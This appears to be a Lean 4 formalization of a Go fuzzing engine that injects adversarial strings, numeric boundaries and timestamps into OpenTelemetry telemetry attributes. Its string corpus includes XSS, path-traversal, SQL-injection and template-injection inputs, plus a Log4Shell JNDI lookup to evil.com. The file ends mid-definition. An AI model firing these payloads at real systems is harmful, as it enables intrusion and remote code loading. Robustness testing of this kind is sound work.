import Mathlib

/-! # otel-datagen: the adversarial value injection engine

A shallow embedding of `internal/aggro/aggro.go` (and of the helpers of
`internal/randomness` it is used with), followed by theorems about it.

Conventions of the embedding.

* A Go `string` is a list of bytes (`GoString`); every string constant of the
  source is written as its UTF-8 bytes.
* The random source (`random.GetRandom` of the Antithesis SDK) is an explicit
  stream of draws that is threaded through the code (`Rng`): a theorem that
  quantifies over every `Rng` speaks about every outcome of the random choices.
* Go slices that the source mutates in place are passed and returned as lists.
* What the source takes from outside the repository (the embedded file
  `blns.txt`, `strconv.FormatFloat`, the `time` package and the clock) is a
  field of the environment `Env`.
-/

namespace Aggro

/-! ## Strings, runes and UTF-8 -/

/-- A Go string: a sequence of bytes, each below 256. -/
abbrev GoString := List Nat

/-- Every entry of the list is a byte. -/
def IsBytes (s : GoString) : Prop := ∀ b ∈ s, b < 256

/-- The constant `utf8.RuneError`, U+FFFD. -/
def RuneError : Nat := 0xFFFD

/-- The constant `utf8.MaxRune`, U+10FFFF. -/
def MaxRune : Nat := 0x10FFFF

/-- Go `utf8.EncodeRune` (also the conversion `string(r)`): the UTF-8 bytes of a
rune; surrogates and values above `MaxRune` are encoded as `RuneError`. -/
def EncodeRune (r : Nat) : GoString :=
  if r ≤ 0x7F then [r]
  else if r ≤ 0x7FF then [0xC0 + r / 64, 0x80 + r % 64]
  else if r > MaxRune ∨ (0xD800 ≤ r ∧ r ≤ 0xDFFF) then [0xEF, 0xBF, 0xBD]
  else if r ≤ 0xFFFF then [0xE0 + r / 4096, 0x80 + r / 64 % 64, 0x80 + r % 64]
  else [0xF0 + r / 262144, 0x80 + r / 4096 % 64, 0x80 + r / 64 % 64, 0x80 + r % 64]

/-- The bytes of a text constant of the source (its UTF-8 encoding). -/
def lit (s : String) : GoString := (s.toList.map (fun c => EncodeRune c.toNat)).flatten

/-- Go `utf8.DecodeRuneInString` on a well-formed prefix: the rune at the start
of the string and its width in bytes, or `none` when the string is empty or
starts with an invalid or incomplete encoding (the case in which Go returns
`RuneError` with width 1). The masks `b & 0x1F`, `b & 0x0F`, `b & 0x07` and
`b & 0x3F` are written as remainders and the shifts as products. -/
def decodeRuneValid : GoString → Option (Nat × Nat)
  | [] => none
  | p0 :: rest =>
    if p0 < 0x80 then some (p0, 1)
    else if p0 < 0xC2 then none
    else if p0 < 0xE0 then
      match rest with
      | b1 :: _ =>
        if 0x80 ≤ b1 ∧ b1 ≤ 0xBF then some (p0 % 32 * 64 + b1 % 64, 2) else none
      | _ => none
    else if p0 < 0xF0 then
      let lo := if p0 = 0xE0 then 0xA0 else 0x80
      let hi := if p0 = 0xED then 0x9F else 0xBF
      match rest with
      | b1 :: b2 :: _ =>
        if lo ≤ b1 ∧ b1 ≤ hi ∧ 0x80 ≤ b2 ∧ b2 ≤ 0xBF then
          some (p0 % 16 * 4096 + b1 % 64 * 64 + b2 % 64, 3)
        else none
      | _ => none
    else if p0 < 0xF5 then
      let lo := if p0 = 0xF0 then 0x90 else 0x80
      let hi := if p0 = 0xF4 then 0x8F else 0xBF
      match rest with
      | b1 :: b2 :: b3 :: _ =>
        if lo ≤ b1 ∧ b1 ≤ hi ∧ 0x80 ≤ b2 ∧ b2 ≤ 0xBF ∧ 0x80 ≤ b3 ∧ b3 ≤ 0xBF then
          some (p0 % 8 * 262144 + b1 % 64 * 4096 + b2 % 64 * 64 + b3 % 64, 4)
        else none
      | _ => none
    else none

/-- The runes produced by `for _, r := range s`: the string is decoded from left
to right, an invalid byte yields `RuneError` and advances by one byte. The first
argument counts the bytes of the current rune that are still to be passed
over. -/
def rangeRunes : Nat → GoString → List Nat
  | _, [] => []
  | skip + 1, _ :: rest => rangeRunes skip rest
  | 0, p0 :: rest =>
    match decodeRuneValid (p0 :: rest) with
    | some (r, size) => r :: rangeRunes (size - 1) rest
    | none => RuneError :: rangeRunes 0 rest

/-- Go `utf8.ValidString`: every position at which a rune starts holds a
well-formed encoding. The first argument is as in `rangeRunes`. -/
def validFrom : Nat → GoString → Bool
  | _, [] => true
  | skip + 1, _ :: rest => validFrom skip rest
  | 0, p0 :: rest =>
    match decodeRuneValid (p0 :: rest) with
    | some (_, size) => validFrom (size - 1) rest
    | none => false

/-- Go `utf8.ValidString`. -/
def ValidString (s : GoString) : Bool := validFrom 0 s

/-- The conversion `string(runes)` of a rune slice. -/
def stringOfRunes (runes : List Nat) : GoString := (runes.map EncodeRune).flatten

/-- Go `strings.Repeat`. -/
def Repeat (s : GoString) (count : Nat) : GoString := (List.replicate count s).flatten

/-- Go `strings.HasPrefix`. -/
def HasPrefix (s pre : GoString) : Bool := pre.isPrefixOf s

/-- Go `strings.Split(s, "\n")`: the pieces of `s` between newline bytes; the
empty string gives one empty piece. -/
def splitLines : GoString → List GoString
  | [] => [[]]
  | b :: rest =>
    if b = 10 then [] :: splitLines rest
    else
      match splitLines rest with
      | [] => [[b]]
      | l :: ls => (b :: l) :: ls

/-- The runes for which Go `unicode.IsSpace` holds. -/
def spaceRunes : List Nat :=
  [0x09, 0x0A, 0x0B, 0x0C, 0x0D, 0x20, 0x85, 0xA0, 0x1680,
   0x2000, 0x2001, 0x2002, 0x2003, 0x2004, 0x2005, 0x2006, 0x2007, 0x2008, 0x2009, 0x200A,
   0x2028, 0x2029, 0x202F, 0x205F, 0x3000]

/-- The UTF-8 encodings of the white space runes. -/
def spaceEncodings : List GoString := spaceRunes.map EncodeRune

/-- Go `strings.TrimLeftFunc(s, unicode.IsSpace)`: while the string starts with
the encoding of a white space rune, that rune is removed (an invalid byte
decodes to `RuneError`, which is not white space, and stops the trimming). -/
def trimLeftSpace : Nat → GoString → GoString
  | 0, s => s
  | fuel + 1, s =>
    match spaceEncodings.find? (fun e => e.isPrefixOf s) with
    | some e => trimLeftSpace fuel (s.drop e.length)
    | none => s

/-- Go `strings.TrimRightFunc(s, unicode.IsSpace)`: while the string ends with
the encoding of a white space rune, that rune is removed. -/
def trimRightSpace : Nat → GoString → GoString
  | 0, s => s
  | fuel + 1, s =>
    match spaceEncodings.find? (fun e => e.isSuffixOf s) with
    | some e => trimRightSpace fuel (s.take (s.length - e.length))
    | none => s

/-- Go `strings.TrimSpace`: leading and trailing white space removed. Each
removal shortens the string, so its length is enough fuel. -/
def TrimSpace (s : GoString) : GoString :=
  let l := trimLeftSpace s.length s
  trimRightSpace l.length l

/-- The decimal digits of a natural number, most significant first, in front of
`acc`; `fuel` bounds the number of digits. -/
def natDigits : Nat → Nat → GoString → GoString
  | 0, _, acc => acc
  | fuel + 1, n, acc =>
    if n / 10 = 0 then (48 + n % 10) :: acc
    else natDigits fuel (n / 10) ((48 + n % 10) :: acc)

/-- Go `strconv.FormatInt(v, 10)` and `strconv.Itoa`: base-10 digits with a
leading minus sign for a negative value. -/
def FormatInt (v : Int) : GoString :=
  if v < 0 then 45 :: natDigits (v.natAbs + 1) v.natAbs []
  else natDigits (v.natAbs + 1) v.natAbs []

/-! ## The random source -/

/-- The random source: `draws i` is the value that the `i`-th call of
`random.GetRandom` returns, `pos` counts the calls made so far. -/
structure Rng where
  draws : Nat → Nat
  pos : Nat

/-- The SDK function `random.GetRandom`: the next draw, a `uint64`. -/
def GetRandom (g : Rng) : Nat × Rng :=
  (g.draws g.pos % 2 ^ 64, { g with pos := g.pos + 1 })

/-- The SDK function `random.RandomChoice`: the zero value for an empty slice
(no draw is made), otherwise the element at index `GetRandom() % len`. -/
def RandomChoice (things : List GoString) (g : Rng) : GoString × Rng :=
  let num_things := things.length
  if num_things < 1 then ([], g)
  else
    let uval := (GetRandom g).1
    let index := uval % num_things
    (things.getD index [], (GetRandom g).2)

/-- The function `randomness.Intn`: an int in the range `[0, n)`; 0 when `n` is not
positive. -/
def Intn (n : Int) (g : Rng) : Int × Rng :=
  if n ≤ 0 then (0, g)
  else (((GetRandom g).1 % n.toNat : Nat), (GetRandom g).2)

/-! ## Attributes and configuration -/

/-- The value of an attribute (`attribute.Value`, `otellog.Value`). The engine
only ever builds string values; every other kind of value (bool, int64,
float64, slices, ...) is carried unchanged and is an `other` with its payload
in `α`. -/
inductive Value (α : Type) where
  | string (s : GoString)
  | other (a : α)
  deriving DecidableEq, Repr

/-- An attribute (`attribute.KeyValue`, `otellog.KeyValue`). -/
structure KeyValue (α : Type) where
  Key : GoString
  Value : Value α
  deriving DecidableEq, Repr

/-- The constructor `String(k, v)` of the package `attribute`. -/
def attributeString {α : Type} (k v : GoString) : KeyValue α := ⟨k, Value.string v⟩

/-- The constructor `String(k, v)` of the package `otellog`. -/
def otellogString {α : Type} (k v : GoString) : KeyValue α := ⟨k, Value.string v⟩

/-- The type `AggroConfig`. -/
structure AggroConfig where
  TimestampTarget : GoString
  NumericTarget : GoString
  StringTarget : GoString
  TimestampActive : Bool
  NumericActive : Bool
  StringActive : Bool
  deriving DecidableEq, Repr

/-- The method `HasAnyActive`. -/
def AggroConfig.HasAnyActive (config : AggroConfig) : Bool :=
  config.TimestampActive || config.NumericActive || config.StringActive

/-! ## The environment -/

/-- A `*time.Location`: `time.UTC`, or the result of `time.LoadLocation` for a
zone name. -/
inductive Loc where
  | UTC
  | loaded (name : GoString)
  deriving DecidableEq, Repr

/-- The part of Go's `time` package that the timestamp corpus uses, over a type
`T` of time values. Durations are in nanoseconds. -/
structure TimeLib (T : Type) where
  /-- The reading of `time.Now()`. -/
  Now : T
  /-- The value `time.Time{}`. -/
  Zero : T
  /-- The function `time.Unix(sec, nsec)`. -/
  Unix : Int → Int → T
  /-- The function `time.Date(year, month, day, hour, min, sec, nsec, loc)`. -/
  Date : Int → Int → Int → Int → Int → Int → Int → Loc → T
  /-- The method `t.Add(d)`. -/
  Add : T → Int → T
  /-- The method `t.Truncate(d)`. -/
  Truncate : T → Int → T
  /-- The method `t.Format(time.RFC3339)`. -/
  FormatRFC3339 : T → GoString
  /-- The method `t.Unix()`. -/
  ToUnix : T → Int
  /-- Whether `time.LoadLocation(name)` finds the zone: when it does not, it
  returns a nil location together with an error. -/
  LoadLocationOK : GoString → Bool

/-- What the engine reads from outside the repository. -/
structure Env (T : Type) where
  /-- The content of the embedded file `blns.txt`. -/
  naughtyStrings : GoString
  /-- The function `strconv.FormatFloat(v, 'g', -1, bitSize)`: the first argument
  is the IEEE-754 binary64 bit pattern of `v`, the second is `bitSize`. -/
  FormatFloat : Nat → Nat → GoString
  /-- The `time` package and the clock. -/
  time : TimeLib T

/-! ## The corpora -/

/-- The slice `advancedStringChaos` of `GetAggroStrings`, entry by entry, as
the bytes of each string constant of the source file. -/
def advancedStringChaos : List GoString := [
  -- Zero-width characters (invisible)
  [226, 128, 139],  -- "\u200B"
  [226, 128, 140],  -- "\u200C"
  [226, 128, 141],  -- "\u200D"
  [226, 128, 142],  -- "\u200E"
  [226, 128, 143],  -- "\u200F"
  [239, 187, 191],  -- "\uFEFF"
  -- Bidirectional text (can cause display issues)
  [72, 101, 108, 108, 111, 226, 128, 174, 119, 111, 114, 108, 100],  -- "Hello\u202Eworld"
  [116, 101, 115, 116, 226, 128, 173, 114, 101, 118, 101, 114, 115, 101, 226, 128, 172],  -- "test\u202Dreverse\u202C"
  [216, 156, 195, 152, 194, 167, 195, 152, 194, 174, 195, 152, 194, 170, 195, 152, 194, 168, 195, 152, 194, 167, 195, 152, 194, 177, 216, 156],
  -- Emoji sequences and variations
  [196, 159, 197, 184, 226, 128, 152, 194, 169, 195, 162, 226, 130, 172, 196, 159, 197, 184, 226, 128, 153, 194, 187],
  [196, 159, 197, 184, 194, 167, 226, 128, 152, 195, 162, 226, 130, 172, 196, 159, 197, 184, 194, 164, 195, 162, 226, 130, 172, 196, 159, 197, 184, 194, 167, 226, 128, 152],
  [196, 159, 197, 184, 226, 128, 152, 194, 168, 195, 162, 226, 130, 172, 196, 159, 197, 184, 226, 128, 152, 194, 169, 195, 162, 226, 130, 172, 196, 159, 197, 184, 226, 128, 152, 194, 167, 195, 162, 226, 130, 172, 196, 159, 197, 184, 226, 128, 152, 194, 166],
  [196, 159, 197, 184, 194, 180, 195, 162, 226, 130, 172, 195, 162, 203, 156, 194, 160, 195, 175, 194, 184],
  [196, 159, 197, 184, 197, 146, 203, 134],
  [196, 159, 197, 184, 226, 128, 153, 194, 175],
  [196, 159, 197, 184, 197, 161, 226, 130, 172],
  [196, 159, 197, 184, 226, 128, 157, 194, 165],
  [195, 162, 197, 147, 226, 128, 166],
  [195, 162, 197, 146],
  [196, 159, 197, 184, 194, 173, 196, 159, 197, 184, 194, 168, 196, 159, 197, 184, 194, 170, 196, 159, 197, 184, 194, 175],
  [196, 159, 197, 184, 226, 132, 162, 203, 134, 196, 159, 197, 184, 226, 132, 162, 226, 128, 176, 196, 159, 197, 184, 226, 132, 162, 197, 160],
  [196, 159, 197, 184, 226, 128, 161, 194, 186, 196, 159, 197, 184, 226, 128, 161, 194, 184],
  [196, 159, 197, 184, 226, 128, 161, 194, 172, 196, 159, 197, 184, 226, 128, 161, 194, 167],
  [196, 159, 197, 184, 226, 128, 161, 194, 175, 196, 159, 197, 184, 226, 128, 161, 194, 181],
  -- Combining characters and diacriticals
  [97, 204, 129],  -- "a\u0301"
  [101, 204, 128, 204, 129],  -- "e\u0300\u0301"
  [111, 204, 136],  -- "o\u0308"
  [110, 204, 131],  -- "n\u0303"
  [117, 204, 140],  -- "u\u030C"
  [90, 195, 140, 194, 180, 195, 140, 226, 128, 148, 195, 140, 194, 186, 195, 140, 194, 160, 195, 141, 226, 128, 161, 195, 140, 194, 170, 195, 140, 203, 134, 195, 140, 197, 146, 195, 141, 197, 146, 195, 140, 226, 128, 185, 195, 140, 226, 128, 157, 195, 140, 197, 160, 195, 140, 197, 161, 97, 195, 140, 194, 181, 195, 140, 226, 128, 148, 195, 141, 195, 140, 194, 160, 195, 140, 194, 164, 195, 140, 197, 184, 195, 140, 194, 191, 195, 141, 195, 140, 226, 128, 152, 195, 140, 226, 128, 161, 108, 195, 140, 194, 183, 195, 140, 194, 176, 195, 140, 203, 134, 195, 135, 194, 181, 195, 140, 194, 182, 195, 140, 194, 176, 195, 140, 194, 179, 195, 141, 226, 128, 147, 111, 195, 140, 194, 183, 195, 140, 194, 164, 195, 140, 194, 165, 195, 140, 197, 147, 195, 141, 226, 128, 152, 195, 140],
  -- Surrogate pairs (UTF-16 edge cases)
  [196, 159, 226, 128, 162, 194, 179, 196, 159, 226, 128, 147, 197, 160, 196, 159, 226, 128, 147, 226, 128, 152, 196, 159, 226, 128, 147, 226, 128, 152, 196, 159, 226, 128, 147, 226, 128, 157],
  [196, 159, 226, 128, 156, 226, 128, 148, 196, 159, 226, 128, 156, 194, 174, 196, 159, 226, 128, 156, 194, 181, 196, 159, 226, 128, 156, 194, 181, 196, 159, 226, 128, 156, 194, 184],
  [196, 159, 226, 128, 157, 194, 165, 196, 159, 226, 128, 157, 194, 162, 196, 159, 226, 128, 157, 194, 169, 196, 159, 226, 128, 157, 194, 169, 196, 159, 226, 128, 157, 194, 172],
  [195, 162, 226, 128, 158, 197, 146, 196, 159, 226, 128, 153, 226, 128, 160, 196, 159, 226, 128, 156, 196, 159, 226, 128, 156, 196, 159, 226, 128, 152, 197, 147],
  -- Control characters (can break parsing)
  [0],  -- "\x00"
  [1],  -- "\x01"
  [2],  -- "\x02"
  [3],  -- "\x03"
  [4],  -- "\x04"
  [5],  -- "\x05"
  [6],  -- "\x06"
  [7],  -- "\x07"
  [8],  -- "\x08"
  [11],  -- "\x0B"
  [12],  -- "\x0C"
  [14],  -- "\x0E"
  [15],  -- "\x0F"
  [27],  -- "\x1B"
  [127],  -- "\x7F"
  -- Non-printable Unicode characters
  [194, 128],  -- "\u0080"
  [194, 129],  -- "\u0081"
  [194, 159],  -- "\u009F"
  [194, 160],  -- "\u00A0"
  [194, 173],  -- "\u00AD"
  [205, 143],  -- "\u034F"
  [225, 133, 159],  -- "\u115F"
  [225, 133, 160],  -- "\u1160"
  [225, 158, 180],  -- "\u17B4"
  [225, 158, 181],  -- "\u17B5"
  [225, 160, 142],  -- "\u180E"
  -- Normalization edge cases (different Unicode forms)
  [99, 97, 102, 195, 131, 194, 169],
  [99, 97, 102, 101, 204, 129],  -- "cafe\u0301"
  [195, 131, 226, 128, 166, 112, 102, 101, 108],
  [65, 204, 138, 112, 102, 101, 108],  -- "A\u030Apfel"
  -- Different script systems
  [196, 158, 226, 128, 148, 196, 158, 194, 180, 195, 145, 226, 130, 172, 196, 158, 194, 176, 196, 158, 194, 178, 195, 145, 195, 145, 226, 128, 154, 196, 158, 194, 178, 195, 145, 198, 146, 196, 158, 194, 185],
  [195, 163, 226, 128, 156, 195, 163, 226, 128, 154, 226, 128, 156, 195, 163, 194, 171, 195, 163, 194, 161, 195, 163, 194, 175],
  [195, 164, 194, 189, 194, 160, 195, 165, 194, 165, 194, 189],
  [195, 153, 226, 128, 166, 195, 152, 194, 177, 195, 152, 194, 173, 195, 152, 194, 168, 195, 152, 194, 167],
  [195, 151, 194, 169, 195, 151, 197, 147, 195, 151, 226, 128, 162, 195, 151],
  [195, 160, 194, 164, 194, 168, 195, 160, 194, 164, 194, 174, 195, 160, 194, 164, 194, 184, 195, 160, 194, 165, 195, 160, 194, 164, 194, 164, 195, 160, 194, 165, 226, 128, 161],
  [195, 172, 226, 128, 162, 203, 134, 195, 171, 226, 128, 166, 226, 128, 162, 195, 173, 226, 128, 162, 203, 156, 195, 172, 226, 128, 158, 194, 184, 195, 172, 197, 161, 226, 128, 157],
  [195, 160, 194, 184, 194, 170, 195, 160, 194, 184, 194, 167, 195, 160, 194, 184, 194, 177, 195, 160, 194, 184, 194, 170, 195, 160, 194, 184, 226, 128, 157, 195, 160, 194, 184, 194, 181],
  [195, 142, 194, 167, 195, 142, 194, 177, 195, 142, 194, 175, 195, 143, 195, 142, 194, 181, 195, 143, 226, 128, 158, 195, 142, 194, 181],
  -- Punycode/IDN edge cases
  [120, 110, 45, 45, 110, 120, 97, 115, 109, 113, 54, 98],  -- "xn--nxasmq6b"
  [120, 110, 45, 45, 101, 49, 97, 102, 109, 107, 102, 100, 46, 120, 110, 45, 45, 112, 49, 97, 105],  -- "xn--e1afmkfd.xn--p1ai"
  -- Long strings (can cause buffer overflows)
  Repeat [65] 1000,  -- strings.Repeat("A", 1000)
  Repeat [196, 159, 197, 184, 226, 128, 153, 194, 175] 100,
  Repeat [196, 159, 197, 184, 197, 161, 226, 130, 172] 50,
  -- Mixed content edge cases
  [72, 101, 108, 108, 111, 10, 87, 111, 114, 108, 100, 13, 10],  -- "Hello\nWorld\r\n"
  [84, 97, 98, 9, 104, 101, 114, 101, 9, 116, 97, 98],  -- "Tab\there\ttab"
  [81, 117, 111, 116, 101, 39, 116, 104, 105, 115, 34, 113, 117, 111, 116, 101],  -- "Quote'this\"quote"
  [83, 108, 97, 115, 104, 92, 97, 110, 100, 47, 115, 108, 97, 115, 104],  -- "Slash\\and/slash"
  [60, 115, 99, 114, 105, 112, 116, 62, 97, 108, 101, 114, 116, 40, 39, 120, 115, 115, 39, 41, 60, 47, 115, 99, 114, 105, 112, 116, 62],  -- "<script>alert('xss')</script>"
  [46, 46, 47, 46, 46, 47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100],  -- "../../etc/passwd"
  [39, 32, 79, 82, 32, 39, 49, 39, 61, 39, 49],  -- "' OR '1'='1"
  [36, 123, 106, 110, 100, 105, 58, 108, 100, 97, 112, 58, 47, 47, 101, 118, 105, 108, 46, 99, 111, 109, 47, 125],  -- "${jndi:ldap://evil.com/}"
  [123, 123, 55, 42, 55, 125, 125],  -- "{{7*7}}"
  -- Encoding confusion
  [99, 97, 102, 233],  -- "caf\xE9"
  [99, 97, 102, 195, 169],  -- "caf\xC3\xA9"
  [255, 254],  -- "\xFF\xFE"
  [254, 255],  -- "\xFE\xFF"
  [239, 187, 191]  -- "\xEF\xBB\xBF"
]

/-- The function `GetAggroStrings`: the lines of the embedded file that are neither blank nor
comments, trimmed, followed by `advancedStringChaos`. -/
def GetAggroStrings {T : Type} (env : Env T) : List GoString :=
  let lines := splitLines env.naughtyStrings
  let values := (lines.map TrimSpace).filter (fun line => line ≠ [] ∧ ¬ HasPrefix line [35])
  values ++ advancedStringChaos

/-- The dynamic type and value of an entry of `numericBoundaries` (a value of
the empty interface type). A float64 is given by its IEEE-754 binary64 bit pattern, and
so is a float32 (by the bit pattern of the float64 of the same value). -/
inductive GoNum where
  | int (v : Int)
  | int8 (v : Int)
  | int16 (v : Int)
  | int32 (v : Int)
  | int64 (v : Int)
  | uint8 (v : Nat)
  | uint16 (v : Nat)
  | uint32 (v : Nat)
  | uint64 (v : Nat)
  | float32 (bits : Nat)
  | float64 (bits : Nat)
  deriving DecidableEq, Repr

/-- Go `math.IsInf(v, 1)` on the bits of a float64. -/
def isPosInf (bits : Nat) : Bool := bits = 0x7FF0000000000000

/-- Go `math.IsInf(v, -1)` on the bits of a float64. -/
def isNegInf (bits : Nat) : Bool := bits = 0xFFF0000000000000

/-- Go `math.IsNaN` on the bits of a float64: the exponent is all ones and the
fraction is not zero. -/
def isNaN (bits : Nat) : Bool :=
  bits / 2 ^ 52 % 2 ^ 11 = 2 ^ 11 - 1 ∧ bits % 2 ^ 52 ≠ 0

/-- The function `formatValue`: the type switch over the dynamic type of the value. -/
def formatValue {T : Type} (env : Env T) (val : GoNum) : GoString :=
  match val with
  | .int64 v => FormatInt v
  | .float64 v =>
    if isPosInf v || isNegInf v then
      if isPosInf v then lit "+Inf" else lit "-Inf"
    else if isNaN v then lit "NaN"
    else env.FormatFloat v 64
  | .int v => FormatInt v
  | .int32 v => FormatInt v
  | .float32 v => env.FormatFloat v 32
  | _ => []
/-- The slice `numericBoundaries` of `GetAggroNumerics`. An untyped integer
constant has the dynamic type `int`, an untyped floating-point constant the
dynamic type `float64`. -/
def numericBoundaries : List GoNum := [
  -- Integer boundaries
  .int 9223372036854775807,       -- math.MaxInt64
  .int (-9223372036854775808),    -- math.MinInt64
  .int 2147483647,                -- math.MaxInt32
  .int (-2147483648),             -- math.MinInt32
  .int16 32767,                   -- int16(math.MaxInt16)
  .int16 (-32768),                -- int16(math.MinInt16)
  .int8 127,                      -- int8(math.MaxInt8)
  .int8 (-128),                   -- int8(math.MinInt8)
  .uint64 18446744073709551615,   -- uint64(18446744073709551615)
  .uint32 4294967295,             -- uint32(4294967295)
  .uint16 65535,                  -- uint16(65535)
  .uint8 255,                     -- uint8(255)
  -- Float boundaries
  .float64 0x7FEFFFFFFFFFFFFF,    -- math.MaxFloat64
  .float64 0xFFEFFFFFFFFFFFFF,    -- -math.MaxFloat64
  .float64 0x47EFFFFFE0000000,    -- math.MaxFloat32
  .float64 0xC7EFFFFFE0000000,    -- -math.MaxFloat32
  .float64 0x0000000000000001,    -- math.SmallestNonzeroFloat64
  .float64 0x36A0000000000000,    -- math.SmallestNonzeroFloat32
  -- Special float values
  .float64 0x7FF0000000000000,    -- math.Inf(1)
  .float64 0xFFF0000000000000,    -- math.Inf(-1)
  .float64 0x7FF8000000000001,    -- math.NaN()
  -- Zero variations
  .int 0,                         -- 0
  .int 0,                         -- -0
  .float64 0x0000000000000000,    -- 0.0
  -- Basic values
  .int 1,                         -- 1
  .int (-1),                      -- -1
  .float64 0x3FF0000000000000,    -- 1.0
  .float64 0xBFF0000000000000,    -- -1.0
  -- Float precision edge cases
  .float64 0x3FB999999999999A,    -- 0.1
  .float64 0x3FC999999999999A,    -- 0.2
  .float64 0x3FD3333333333333,    -- 0.3
  .float64 0x3FD5555555555555,    -- 1.0 / 3.0
  .float64 0x3FE5555555555555,    -- 2.0 / 3.0
  .float64 0x400921FB54442D18,    -- math.Pi
  .float64 0x4005BF0A8B145769,    -- math.E
  .float64 0x3FF6A09E667F3BCD,    -- math.Sqrt(2)
  .float64 0x3FE62E42FEFA39EF,    -- math.Ln2
  .float64 0x3FDBCB7B1526E50E,    -- math.Log10E
  -- Very small numbers (subnormal/denormal)
  .float64 0x000730D67819E8D2,    -- 1e-308
  .float64 0x0000000000000002,    -- 1e-323
  .float64 0x0000000000000001,    -- 4.9e-324
  -- Very large numbers
  .float64 0x7FE1CCF385EBC8A0,    -- 1e308
  .float64 0x7FEE42D130773B76,    -- 1.7e308
  -- Powers of 2 (binary edge cases)
  .int 1024,                      -- 1024
  .int 2048,                      -- 2048
  .int 4096,                      -- 4096
  .int 8192,                      -- 8192
  .int 65536,                     -- 65536
  .int 1048576,                   -- 1048576
  .int 16777216,                  -- 16777216
  .int 4294967296,                -- 4294967296
  -- Powers of 10 (decimal edge cases)
  .float64 0x4202A05F20000000,    -- 1e10
  .float64 0x430C6BF526340000,    -- 1e15
  .float64 0x4415AF1D78B58C40,    -- 1e20
  -- Common problematic values
  .float64 0x3FF3C0CA428C59DD,    -- 1.23456789012345
  .int 999999999999999,           -- 999999999999999
  .int 9007199254740992,          -- 9007199254740992
  .int (-9007199254740992),       -- -9007199254740992
  -- Financial/decimal precision edge cases
  .float64 0x3F847AE147AE147B,    -- 0.01
  .float64 0x3F50624DD2F1A9FC,    -- 0.001
  .float64 0x4058FF5C28F5C28F,    -- 99.99
  .float64 0x408F3FEB851EB852,    -- 999.99
  .float64 0x408F40147AE147AE,    -- 1000.01
  -- Scientific notation values (will be formatted as such)
  .float64 0x3F201F31F46ED246,    -- 1.23e-4
  .float64 0x41C0E5DDE0000000,    -- 5.67e8
  .float64 0xBDA5B450E803D8C8,    -- -9.87e-12
  .float64 0x4330334BBC2D0000     -- 4.56e15
]

/-- The slice `scientificNotations` of `GetAggroNumerics`. -/
def scientificNotations : List GoString := [
  lit "1.23E-4",
  lit "5.67E+8",
  lit "-9.87E-12",
  lit "4.56E+15",
  lit "1e10",
  lit "2E-5",
  lit "NaN",
  lit "+Inf",
  lit "-Inf",
  lit "Infinity",
  lit "-Infinity"
]

/-- The function `GetAggroNumerics`: the formatted boundary values followed by the
scientific-notation strings. -/
def GetAggroNumerics {T : Type} (env : Env T) : List GoString :=
  numericBoundaries.map (formatValue env) ++ scientificNotations

/-- The duration constant `time.Nanosecond`. -/
def Nanosecond : Int := 1

/-- The duration constant `time.Second`. -/
def Second : Int := 1000000000

/-- The duration constant `time.Minute`. -/
def Minute : Int := 60 * Second

/-- The duration constant `time.Hour`. -/
def Hour : Int := 60 * Minute

/-- The function `GetAggroTimestamps`: the timestamp edge cases it returns when
the three zones can be loaded. The zone loaded for a name is passed to `Date`
as `Loc.loaded name`. The source discards the error result of
`time.LoadLocation`; what happens when a zone cannot be loaded is the subject of
`GetAggroTimestampsRun` below. -/
def GetAggroTimestamps {T : Type} (env : Env T) : List T :=
  let tm := env.time
  let now := tm.Now
  let utc := Loc.UTC
  let est := Loc.loaded (lit "America/New_York")
  let pst := Loc.loaded (lit "America/Los_Angeles")
  let jst := Loc.loaded (lit "Asia/Tokyo")
  [ -- Basic edge cases
    tm.Unix 0 0,
    tm.Unix (-1) 0,
    tm.Unix 1 0,
    tm.Unix 2147483647 0,
    tm.Unix (-2147483648) 0,
    tm.Unix 4294967295 0,
    tm.Unix 253402300799 0,
    tm.Date 1970 1 1 0 0 0 0 utc,
    tm.Date 2000 1 1 0 0 0 0 utc,
    tm.Date 1900 1 1 0 0 0 0 utc,
    tm.Zero,
    -- Leap year edge cases
    tm.Date 2000 2 29 0 0 0 0 utc,
    tm.Date 1900 2 28 23 59 59 0 utc,
    tm.Date 2024 2 29 12 0 0 0 utc,
    tm.Date 2100 2 28 23 59 59 0 utc,
    tm.Date 2000 3 1 0 0 0 0 utc,
    -- DST transition edge cases (US Eastern Time)
    tm.Date 2024 3 10 6 59 59 0 utc,
    tm.Date 2024 3 10 7 0 0 0 utc,
    tm.Date 2024 11 3 5 59 59 0 utc,
    tm.Date 2024 11 3 6 30 0 0 utc,
    -- Timezone edge cases
    tm.Date 2024 1 1 0 0 0 0 est,
    tm.Date 2024 1 1 0 0 0 0 pst,
    tm.Date 2024 1 1 0 0 0 0 jst,
    -- Month boundary edge cases
    tm.Date 2024 1 31 23 59 59 999999999 utc,
    tm.Date 2024 2 1 0 0 0 0 utc,
    tm.Date 2024 12 31 23 59 59 999999999 utc,
    -- Week boundary edge cases
    tm.Date 2024 1 6 23 59 59 0 utc,
    tm.Date 2024 1 7 0 0 0 0 utc,
    tm.Date 2024 1 8 0 0 0 0 utc,
    -- Nanosecond precision edge cases
    tm.Date 2024 1 1 0 0 0 999999999 utc,
    tm.Date 2024 1 1 0 0 0 1 utc,
    -- Relative to now
    tm.Add now (100 * 365 * 24 * Hour),
    tm.Add now (-100 * 365 * 24 * Hour),
    tm.Add now Nanosecond,
    tm.Add now (-Nanosecond),
    tm.Truncate now (24 * Hour),
    tm.Truncate now Hour,
    tm.Truncate now Minute,
    tm.Truncate now Second ]

/-- The loop that turns the timestamps into string values (it occurs in
`ApplyAggroToTraceAttributes`, `ApplyAggroToLogAttributes`, `GetAggroValues` and
`GetAggroValuesForProtocol`): each timestamp appends its RFC 3339 form and then
its Unix seconds in base 10. -/
def appendTimestampValues {T : Type} (env : Env T) :
    List GoString → List T → List GoString
  | values, [] => values
  | values, ts :: rest =>
    appendTimestampValues env
      ((values ++ [env.time.FormatRFC3339 ts]) ++ [FormatInt (env.time.ToUnix ts)]) rest

/-! ## The protocol sanitizer -/

/-- The function `isProblematicControlChar`: is the byte a control character
that breaks gRPC. -/
def isProblematicControlChar (b : Nat) : Bool :=
  if b = 0 then true
  else if b ≥ 1 ∧ b ≤ 8 then true
  else if b = 11 ∨ b = 12 then true
  else if b ≥ 14 ∧ b ≤ 31 then true
  else if b = 127 then true
  else false

/-- The function `isValidRuneForGRPC`: is the rune safe for gRPC. Runes are
natural numbers here: the runes that decoding a string yields are never
negative. -/
def isValidRuneForGRPC (r : Nat) : Bool :=
  if r < 32 then r = 9 ∨ r = 10 ∨ r = 13
